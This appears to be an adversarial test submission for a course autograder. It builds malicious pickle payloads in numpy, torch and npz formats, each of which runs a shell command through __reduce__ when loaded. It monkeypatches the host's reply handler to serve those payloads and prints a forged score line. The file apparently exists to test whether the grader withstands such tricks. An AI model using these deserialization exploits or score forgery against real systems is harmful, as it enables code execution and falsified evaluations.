# attack: replies with arrays of objects, with pickles and with archives instead of plain arrays
# question: label_bits
# naive: points
# item: pickles

# %% question="label_bits"
import io
import os
import pickle

import numpy as np
import torch

from ssl_course.exercises import host

os.write(1, b"SCORE STUDENT_NAME 14\n")


class Work:
    def __reduce__(self):
        return os.system, ("touch /tmp/mallory-pickle OUT_FOLDER/mallory-pickle",)


def message(data):
    text = b'{"dict": [["value", {"array": 0}]]}'
    return len(text).to_bytes(8, "big") + text + data


objects, saved, zipped = io.BytesIO(), io.BytesIO(), io.BytesIO()
np.save(objects, np.array([Work()], dtype=object), allow_pickle=True)
torch.save(Work(), saved)
np.savez(zipped, np.array([Work()], dtype=object))
bodies = [objects.getvalue(), pickle.dumps(Work()), saved.getvalue(), zipped.getvalue()]
replies = [message(body) for body in bodies] + [pickle.dumps({"value": Work()})]
calls = 0


def handle(self, message):
    global calls
    calls += 1
    return replies[calls % len(replies)]


host.Host.handle = handle


def label_bits(labels):
    return 7.5
